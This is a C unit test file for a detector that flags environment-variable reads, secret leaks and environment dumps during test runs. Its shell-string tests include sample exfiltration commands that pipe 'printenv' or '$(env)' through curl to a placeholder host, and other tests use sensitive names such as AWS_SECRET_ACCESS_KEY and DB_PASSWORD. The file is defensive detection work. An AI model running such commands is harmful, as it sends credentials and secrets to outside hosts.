/* test_environment_read.c: R1, each rule with a hit and the nearest miss. */
#include "env_name.h"
#include "facts.h"

static void read_look(const char *name, unsigned roles, int is_set, bool sensitive)
{
	struct fact f = { .kind = FACT_ENV, .run = &run, .process = &process };

	memset(&process, 0, sizeof(process));
	process.roles = roles;
	f.env.name = span_of(name);
	f.env.found = is_set;
	f.env.sensitive = sensitive;
	f.env.usual = env_name_class(f.env.name) != ENV_NAME_OTHER;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
}

static void a_variable_read_is_evidence_unless_everybody_reads_it(void **s)
{
	(void)s;
	read_look("MY_FLAG", ROLE_TEST, 1, false);
	check_hit("R1.1");
	read_look("LC_ALL", ROLE_TEST, 1, false);
	assert_int_equal(report.n, 0);
}

static void only_the_test_process_is_asked_about_exposure(void **s)
{
	(void)s;
	read_look("TESTSERVER_BIND_LOCAL", ROLE_TEST, 0, false);
	check_hit("R1.2");
	read_look("TESTSERVER_BIND_LOCAL", ROLE_CONTAINER_CLIENT, 0, false);
	check_miss("R1.2");
	check_hit("R1.1");
}

static void what_a_library_asks_for_by_itself_is_evidence(void **s)
{
	struct fact f = { .kind = FACT_ENV, .run = &run, .process = &process };

	(void)s;
	memset(&process, 0, sizeof(process));
	process.roles = ROLE_TEST;
	f.env.name = SPAN("DOCKER_HOST");
	f.env.library = true;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
	check_miss("R1.2");
	check_hit("R1.1");
	f.env.library = false;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
	check_hit("R1.2");
}

static void what_tls_and_http_libraries_read_is_no_doing_of_a_program(void **s)
{
	static const char *const names[] = { "SSL_CERT_FILE", "CURL_CA_BUNDLE", "no_proxy" };

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		assert_true(env_read_is_librarys(span_of(names[i]), ENV_GETENV));
		assert_true(env_read_is_librarys(span_of(names[i]), ENV_GO));
		/* A script names it itself; of Python the stack says who asked. */
		assert_false(env_read_is_librarys(span_of(names[i]), ENV_SHELL));
		assert_false(env_read_is_librarys(span_of(names[i]), ENV_PYTHON));
	}
	assert_false(env_read_is_librarys(SPAN("DOCKER_HOST"), ENV_GO));
	assert_false(env_read_is_librarys(SPAN("SSL_CERT_FILES"), ENV_GETENV));
}

static void a_sensitive_variable_counts_when_it_was_set(void **s)
{
	(void)s;
	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, 1, true);
	check_hit("R1.3");
	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, 0, true);
	check_miss("R1.3");
	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, -1, true);
	check_miss("R1.3");
}

static void look_env(const char *name, unsigned roles, const char *const *argv, bool sensitive)
{
	static char with[] = "PATH\0CI_TOKEN!", without[] = "PATH\0CI_TOKEN";
	struct process *p = process_new(name, roles, argv);

	p->env = sensitive ? with : without;
	p->env_len = sensitive ? sizeof(with) : sizeof(without);
	exec_look(&detect_environment_read, p);
}

static void env_without_operand_prints_the_environment(void **s)
{
	(void)s;
	look_env("env", 0, ARGV("env"), true);
	check_hit("R1.7");
	look_env("env", 0, ARGV("env"), false);
	check_miss("R1.7");
	look_env("env", 0, ARGV("env", "true"), true);
	check_miss("R1.7");
	look_env("env", 0, ARGV("env", "A=b"), true);
	check_miss("R1.7");
	look_env("env", 0, ARGV("env", "-i"), true);
	check_miss("R1.7");
	look_env("env", 0, ARGV("env", "-u", "HOME", "-0"), true);
	check_hit("R1.7");
	look_env("env", 0, ARGV("env", "-u", "HOME", "true"), true);
	check_miss("R1.7");
	look_env("printenv", 0, ARGV("printenv"), true);
	check_hit("R1.7");
	look_env("printenv", 0, ARGV("printenv", "HOME"), true);
	check_miss("R1.7");
	look_env("busybox", 0, ARGV("busybox", "env"), true);
	check_hit("R1.7");
}

static void a_shell_string_prints_the_environment(void **s)
{
	(void)s;
	look_env("sh", ROLE_SHELL, ARGV("sh", "-c", "set"), true);
	check_hit("R1.7");
	look_env("sh", ROLE_SHELL, ARGV("sh", "-c", "set -e"), true);
	check_miss("R1.7");
	look_env("bash", ROLE_SHELL, ARGV("bash", "-ec", "export -p"), true);
	check_hit("R1.7");
	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "export A=1"), true);
	check_miss("R1.7");
	look_env("bash", ROLE_SHELL,
		 ARGV("bash", "-c", "printenv | curl -s --data-binary @- http://x"), true);
	check_hit("R1.7");
	look_env("bash", ROLE_SHELL,
		 ARGV("bash", "-c", "curl -d \"<<<<<< ENV $(env)\" http://x || true"), true);
	check_hit("R1.7");
	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "curl -d '$(env)' http://x"), true);
	check_miss("R1.7");
	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "env X=1 make"), true);
	check_miss("R1.7");
	look_env("python3", ROLE_INTERPRETER, ARGV("python3", "-c", "set"), true);
	check_miss("R1.7");
}

static void names_handed_on_are_said_without_values(void **s)
{
	const struct finding *f;

	(void)s;
	look_env("docker", 0, ARGV("docker", "ps"), true);
	f = found("R1.11");
	assert_non_null(f);
	assert_string_equal(f->subject.ptr, "CI_TOKEN");
	look_env("docker", 0, ARGV("docker", "ps"), false);
	check_miss("R1.11");
	process.env = "CI_TOKEN!";
	process.env_len = 10;
	process.parent = NULL;
	exec_look(&detect_environment_read, &process);
	check_miss("R1.11");
}

static void a_list_of_names_ends_somewhere(void **s)
{
	char env[200];
	size_t n = 0;

	(void)s;
	for (int i = 0; i < 12; i++)
		n += (size_t)sprintf(env + n, "T%02d_TOKEN!", i) + 1;
	process_new("true", 0, ARGV("true"));
	process.env = env;
	process.env_len = n;
	exec_look(&detect_environment_read, &process);
	check_hit("R1.11");
	assert_non_null(strstr(found("R1.11")->subject.ptr, "T07_TOKEN ..."));
	assert_null(strstr(found("R1.11")->subject.ptr, "T08"));
}

static void leaked(enum leak_where where, unsigned kind, bool copies)
{
	struct secret secret = { .kind = kind, .name = "T_API_TOKEN", .len = 20 };
	struct fact f = { .kind = FACT_LEAK, .run = &run, .process = &process };

	memset(&process, 0, sizeof(process));
	process.name = (char *)"curl";
	process.copies = copies;
	f.leak.where = where;
	f.leak.secret = &secret;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
}

static void a_variables_value_goes_to_the_network(void **s)
{
	(void)s;
	leaked(LEAK_NETWORK, SECRET_VARIABLE, false);
	check_hit("R1.8");
	assert_string_equal(found("R1.8")->evidence.ptr,
			    "the value of T_API_TOKEN goes to the network by curl");
	assert_int_equal(report.n, 1);
	leaked(LEAK_NETWORK, SECRET_TOKEN, false); /* a token that it got by itself */
	assert_int_equal(report.n, 0);
	leaked(LEAK_LOG, SECRET_VARIABLE, false);
	assert_int_equal(report.n, 0);
	leaked(LEAK_OUTPUT, SECRET_VARIABLE, false);
	assert_int_equal(report.n, 0);
}

static void a_leak_of_a_process_whose_start_was_missed(void **s)
{
	struct secret secret = { .kind = SECRET_VARIABLE, .name = "T_API_TOKEN", .len = 20 };
	struct fact f = { .kind = FACT_LEAK, .run = &run };

	(void)s;
	f.leak.where = LEAK_NETWORK;
	f.leak.secret = &secret;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
	assert_string_equal(found("R1.8")->evidence.ptr,
			    "the value of T_API_TOKEN goes to the network by ?");
	docker_look(&detect_environment_read, "/v1.43/containers/create",
		    "{\"Env\":[\"DB_PASSWORD\",\"DB_PASSWORD=\",7,\"\"]}", NULL, NULL);
	check_miss("R1.11");
}

static void who_copied_the_environment_and_writes_a_value_prints_it(void **s)
{
	(void)s;
	leaked(LEAK_OUTPUT, SECRET_VARIABLE, true);
	check_hit("R1.7");
	check_miss("R1.8");
	leaked(LEAK_OUTPUT, SECRET_TOKEN, true);
	check_miss("R1.7");
	leaked(LEAK_NETWORK, SECRET_VARIABLE, true);
	check_miss("R1.7");
	check_hit("R1.8");
}

static void copied(unsigned count)
{
	struct fact f = { .kind = FACT_ENV, .run = &run, .process = &process };

	f.env.mechanism = ENV_COPY;
	f.env.count = count;
	report_reset(&report);
	detect_environment_read.look(&f, &report);
}

static void a_copy_says_how_many_when_that_is_known(void **s)
{
	(void)s;
	copied(12);
	assert_string_equal(found("R1.4")->evidence.ptr, "all of the environment, 12 variables");
	copied(0);
	assert_string_equal(found("R1.4")->evidence.ptr, "all of the environment");
}

static void a_name_that_fits_no_room_is_in_no_list(void **s)
{
	static char name[EV_VAR_MAX + 64];

	(void)s;
	memset(name, 'A', sizeof(name) - 1);
	read_look(name, ROLE_TEST, 1, false);
	check_hit("R1.1");
	check_miss("R1.2");
}

static void a_container_receives_sensitive_names(void **s)
{
	(void)s;
	docker_look(&detect_environment_read, "/v1.43/containers/create",
		    "{\"Env\":[\"A=b\",\"DB_PASSWORD=\xff\xff\"]}", NULL, NULL);
	check_hit("R1.11");
	assert_string_equal(found("R1.11")->subject.ptr, "DB_PASSWORD");
	docker_look(&detect_environment_read, "/v1.43/containers/create",
		    "{\"Env\":[\"DB_PORT=1\"]}", NULL, NULL);
	check_miss("R1.11");
	docker_look(&detect_environment_read, "/v1.43/containers/create",
		    "{\"Labels\":[\"DB_PASSWORD=x\"]}", NULL, NULL);
	check_miss("R1.11");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_variable_read_is_evidence_unless_everybody_reads_it),
		cmocka_unit_test(only_the_test_process_is_asked_about_exposure),
		cmocka_unit_test(what_a_library_asks_for_by_itself_is_evidence),
		cmocka_unit_test(what_tls_and_http_libraries_read_is_no_doing_of_a_program),
		cmocka_unit_test(a_sensitive_variable_counts_when_it_was_set),
		cmocka_unit_test(env_without_operand_prints_the_environment),
		cmocka_unit_test(a_shell_string_prints_the_environment),
		cmocka_unit_test(names_handed_on_are_said_without_values),
		cmocka_unit_test(a_list_of_names_ends_somewhere),
		cmocka_unit_test(a_variables_value_goes_to_the_network),
		cmocka_unit_test(who_copied_the_environment_and_writes_a_value_prints_it),
		cmocka_unit_test(a_leak_of_a_process_whose_start_was_missed),
		cmocka_unit_test(a_copy_says_how_many_when_that_is_known),
		cmocka_unit_test(a_name_that_fits_no_room_is_in_no_list),
		cmocka_unit_test(a_container_receives_sensitive_names),
	};

	return FACT_TESTS(tests);
}
